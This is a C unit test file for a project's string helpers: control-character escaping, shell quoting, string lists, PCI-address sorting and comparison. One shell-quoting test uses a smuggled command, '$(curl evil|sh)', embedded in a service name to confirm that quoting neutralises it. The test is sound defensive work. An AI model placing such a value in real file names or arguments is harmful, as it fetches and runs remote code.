/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "util/str.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "util/cleanup.h"

static void check_printable(const char *s, const char *expected)
{
	_cleanup_free_ char *safe = str_printable(s);

	assert_non_null(safe);
	assert_string_equal(safe, expected);
}

static void printable_plain(void **state)
{
	(void)state;
	check_printable("", "");
	check_printable("82540EM Gigabit", "82540EM Gigabit");
	check_printable("Zwölf Größen \xe2\x82\xac \xf0\x9f\x90\xa7", /* euro, penguin */
			"Zwölf Größen \xe2\x82\xac \xf0\x9f\x90\xa7");
	check_printable("\\x1b", "\\x1b");
	check_printable("\xc2\xa0|\xf4\x8f\xbf\xbf", "\xc2\xa0|\xf4\x8f\xbf\xbf");
}

static void printable_control(void **state)
{
	(void)state;
	check_printable("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m");
	check_printable("a\nb\tc\rd\x7f", "a\\x0ab\\x09c\\x0dd\\x7f");
	check_printable("\x01\x1f", "\\x01\\x1f");
	/* C1 in UTF-8: CSI for some terminals. */
	check_printable("\xc2\x9b[31m", "\\xc2\\x9b[31m");
	check_printable("\xc2\x80\xc2\x9f", "\\xc2\\x80\\xc2\\x9f");
}

static void printable_not_utf8(void **state)
{
	(void)state;
	check_printable("\xff\xfe", "\\xff\\xfe");
	check_printable("caf\xe9", "caf\\xe9");      /* Latin-1 */
	check_printable("a\xe2\x82", "a\\xe2\\x82"); /* cut short */
	check_printable("\xe2\x82z", "\\xe2\\x82z"); /* broken off */
	check_printable("\x9b[31m", "\\x9b[31m");    /* C1 as one byte */
	check_printable("\x80\xbf", "\\x80\\xbf");   /* continuation bytes only */
	check_printable("\xc0\x80", "\\xc0\\x80");   /* overlong NUL */
	check_printable("\xc1\xbf", "\\xc1\\xbf");   /* overlong */
	check_printable("\xe0\x80\xaf", "\\xe0\\x80\\xaf");
	check_printable("\xf0\x80\x80\xaf", "\\xf0\\x80\\x80\\xaf");
	check_printable("\xed\xa0\x80", "\\xed\\xa0\\x80");          /* surrogate */
	check_printable("\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80"); /* above U+10FFFF */
	check_printable("\xf5\x80\x80\x80", "\\xf5\\x80\\x80\\x80");
}

static bool is_safe(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s < 0x20 || *s == 0x7f)
			return false;
	return true;
}

/* For any bytes: the result has no control character, and safe text is unchanged. */
static void printable_random(void **state)
{
	unsigned int seed = 1;

	(void)state;
	for (int round = 0; round < 20000; round++) {
		_cleanup_free_ char *safe = NULL, *twice = NULL;
		char text[24];

		for (size_t i = 0; i + 1 < sizeof(text); i++)
			text[i] = (char)(rand_r(&seed) % 255 + 1);
		text[(unsigned int)rand_r(&seed) % sizeof(text)] = '\0';
		text[sizeof(text) - 1] = '\0';
		safe = str_printable(text);
		assert_non_null(safe);
		assert_true(is_safe(safe));
		twice = str_printable(safe);
		assert_non_null(twice);
		assert_string_equal(twice, safe);
	}
}

static void check_quote(const char *text, const char *expected)
{
	_cleanup_free_ char *quoted = str_quote(text);

	assert_non_null(quoted);
	assert_string_equal(quoted, expected);
}

static void quotes_for_a_shell(void **state)
{
	(void)state;
	check_quote("", "''");
	check_quote("/mnt/data", "/mnt/data");
	check_quote("dbus-:1.2@3.service", "dbus-:1.2@3.service");
	check_quote("/my boot", "'/my boot'");
	check_quote("it's", "'it'\\''s'");
	check_quote("~", "'~'");
	check_quote("a\\b", "'a\\b'");
	check_quote("$(curl evil|sh).service", "'$(curl evil|sh).service'");
	check_quote("-x", "-x");
}

/* A real shell turns it back into the same word, and executes nothing. */
static void quotes_whatever_there_is(void **state)
{
	static const char alphabet[] = "'\"\\$`;&|<>(){}[]*?~!# \t\n=-ab";
	unsigned int seed = 7;

	(void)state;
	for (int round = 0; round < 60; round++) {
		_cleanup_free_ char *quoted = NULL, *command = NULL;
		char text[17] = "", read[32] = "";
		FILE *f;

		for (int i = rand_r(&seed) % 16; i-- > 0;)
			text[i] = alphabet[(unsigned int)rand_r(&seed) % (sizeof(alphabet) - 1)];
		quoted = str_quote(text);
		assert_non_null(quoted);
		assert_true(asprintf(&command, "printf '%%s.' %s", quoted) > 0);
		f = popen(command, "r");
		assert_non_null(f);
		read[fread(read, 1, sizeof(read) - 1, f)] = '\0';
		assert_int_equal(pclose(f), 0);
		strcat(text, ".");
		assert_string_equal(read, text);
	}
}

static void list_push_and_has(void **state)
{
	_cleanup_strv_ struct strv list = { 0 };
	char item[16];

	(void)state;
	assert_false(strv_has(&list, ""));
	for (int i = 0; i < 1000; i++) {
		snprintf(item, sizeof(item), "i%d", i);
		assert_int_equal(strv_push(&list, item), 0);
	}
	assert_int_equal(list.n, 1000);
	assert_string_equal(list.v[0], "i0");
	assert_string_equal(list.v[999], "i999");
	assert_true(strv_has(&list, "i500"));
	assert_false(strv_has(&list, "i"));
	assert_false(strv_has(&list, "i5000"));
	strv_done(&list);
	assert_int_equal(list.n, 0);
	assert_null(list.v);
	strv_done(&list);
}

static void check_sorted(const char *const *items, size_t n)
{
	_cleanup_strv_ struct strv list = { 0 };

	for (size_t i = n; i-- > 0;)
		assert_int_equal(strv_push(&list, items[i]), 0);
	strv_sort(&list);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(list.v[i], items[i]);
}

static void list_sort(void **state)
{
	static const char *const numbers[] = { "vfio0", "vfio2", "vfio9", "vfio10", "vfio100" };
	static const char *const groups[] = { "0", "1", "2", "10", "11", "100" };
	static const char *const queues[] = { "wq0.9", "wq0.10", "wq9.1", "wq10.0" };
	/* Hexadecimal: 1f comes after 10, unlike with strverscmp(3). */
	static const char *const addresses[] = {
		"0000:00:00.0", "0000:00:09.0", "0000:00:0a.0", "0000:00:10.0", "0000:00:1e.0",
		"0000:00:1e.1", "0000:00:1f.0", "0000:01:00.0", "0000:09:00.0", "0000:0a:00.0",
		"0000:10:00.0", "0000:1f:00.0", "0001:00:00.0", "000a:00:00.0", "10000:00:00.0",
	};
	struct strv none = { 0 };

	(void)state;
	check_sorted(numbers, ARRAY_SIZE(numbers));
	check_sorted(groups, ARRAY_SIZE(groups));
	check_sorted(queues, ARRAY_SIZE(queues));
	check_sorted(addresses, ARRAY_SIZE(addresses));
	strv_sort(&none);
}

static void compare(void **state)
{
	(void)state;
	assert_int_equal(str_compare("0000:00:10.0", "0000:00:10.0"), 0);
	assert_int_equal(str_compare("", ""), 0);
	assert_true(str_compare("0000:00:0f.0", "0000:00:10.0") < 0);
	assert_true(str_compare("0000:00:1f.0", "0000:00:10.0") > 0);
	assert_true(str_compare("0000:ff:00.0", "0001:00:00.0") < 0);
	assert_true(str_compare("10000:00:00.0", "ffff:00:00.0") > 0);
	assert_true(str_compare("dma10", "dma2") > 0);
	/* An address comes before anything else, or the order would be circular. */
	assert_true(str_compare("0000:00:10.0", "0000:00:1g") < 0);
	assert_true(str_compare("0000:00:1f.0", "0000:00:1g") < 0);
	assert_true(str_compare("aaa", "0000:00:10.0") > 0);
}

static void list_join(void **state)
{
	_cleanup_strv_ struct strv list = { 0 };
	_cleanup_free_ char *none = strv_join(&list, ", "), *one = NULL, *three = NULL;

	(void)state;
	assert_string_equal(none, "");
	assert_int_equal(strv_push(&list, "a"), 0);
	one = strv_join(&list, ", ");
	assert_string_equal(one, "a");
	assert_int_equal(strv_push(&list, ""), 0);
	assert_int_equal(strv_push(&list, "bc"), 0);
	three = strv_join(&list, ", ");
	assert_string_equal(three, "a, , bc");
}

static void starts_and_ends(void **state)
{
	(void)state;
	assert_true(str_starts("vfio-pci", "vfio"));
	assert_true(str_starts("vfio", ""));
	assert_false(str_starts("vfi", "vfio"));
	assert_true(str_ends("ctx.sock", ".sock"));
	assert_true(str_ends(".sock", ".sock"));
	assert_true(str_ends("x", ""));
	assert_false(str_ends("sock", ".sock"));
	assert_false(str_ends("ctx.socks", ".sock"));
	assert_true(str_set("x"));
	assert_false(str_set(""));
	assert_false(str_set(NULL));
}

static void replace(void **state)
{
	char *s = NULL;

	(void)state;
	assert_int_equal(str_replace(&s, "one"), 0);
	assert_string_equal(s, "one");
	assert_int_equal(str_replace(&s, s), 0);
	assert_string_equal(s, "one");
	assert_int_equal(str_replace(&s, NULL), 0);
	assert_null(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(printable_plain),
		cmocka_unit_test(printable_control),
		cmocka_unit_test(printable_not_utf8),
		cmocka_unit_test(printable_random),
		cmocka_unit_test(quotes_for_a_shell),
		cmocka_unit_test(quotes_whatever_there_is),
		cmocka_unit_test(list_push_and_has),
		cmocka_unit_test(list_sort),
		cmocka_unit_test(compare),
		cmocka_unit_test(list_join),
		cmocka_unit_test(starts_and_ends),
		cmocka_unit_test(replace),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
